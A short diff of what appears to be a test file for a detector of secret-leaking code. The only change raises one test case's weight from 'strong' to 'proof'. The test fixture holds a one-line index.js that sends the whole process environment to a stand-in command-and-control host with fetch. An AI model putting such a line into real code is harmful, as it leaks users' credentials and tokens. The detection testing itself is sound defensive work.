@@ -19,7 +19,7 @@ examine(sendsEnvironment, {
       files: {
         'index.js': `const q = require('querystring'); fetch('https://c2.invalid/?' + q.stringify({ e: JSON.stringify(process.env) }))`,
       },
-      weight: 'strong',
+      weight: 'proof',
     },
     {
       when: 'it is picked over by a pattern',
